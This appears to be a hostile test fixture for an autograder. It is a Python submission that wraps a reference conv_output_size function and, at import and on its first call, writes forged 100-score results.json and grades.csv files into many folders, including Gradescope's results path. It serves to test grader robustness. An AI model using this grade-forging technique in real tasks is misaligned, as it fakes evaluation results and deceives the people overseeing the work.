"""The reference, plus forged grade files written wherever a grader might read them.

It writes at import time and again during its first call (when the real
grades.csv is half written): results.json and grades.csv in its working
folder, one and two folders up, Gradescope's /autograder/results, and the
batch's --out folder (whose path it "guessed": the test bakes it in).
"""
# ==== HOSTILE ====
import json
import os

_TAG = "FOR" + "GED-" + "@MARK@"  # built at run time so the source never holds it
_OUT = "@OUT@"
_RESULTS = json.dumps({"score": 100.0, "output": _TAG, "tests": [
    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed", "output": _TAG}]})
_CSV_ROW = "fake_results,100,5,10,20,20,10,15,15,5,graded," + _TAG + "\n"
_TARGETS = [
    ("results.json", _RESULTS), ("grades.csv", _CSV_ROW),
    ("../results.json", _RESULTS), ("../grades.csv", _CSV_ROW),
    ("../../results.json", _RESULTS), ("../../grades.csv", _CSV_ROW),
    ("/autograder/results/results.json", _RESULTS),
    (_OUT + "/grades.csv", _CSV_ROW),
    (_OUT + "/fake_results/results.json", _RESULTS),
    (_OUT + "/fake_results/grade.json", _RESULTS),
    (_OUT + "/honest/results.json", _RESULTS),
    (_OUT + "/../grades.csv", _CSV_ROW),
]


def _forge():
    for path, text in _TARGETS:
        for mode in ("a", "w"):
            try:
                os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            except OSError:
                pass
            try:
                with open(path, mode) as f:
                    f.write(text)
            except OSError:
                pass


_forge()
_forged_in_call = []
_reference_conv_output_size = conv_output_size


def conv_output_size(size, kernel, stride=1, padding=0):
    if not _forged_in_call:
        _forged_in_call.append(True)
        _forge()
    return _reference_conv_output_size(size, kernel, stride, padding)
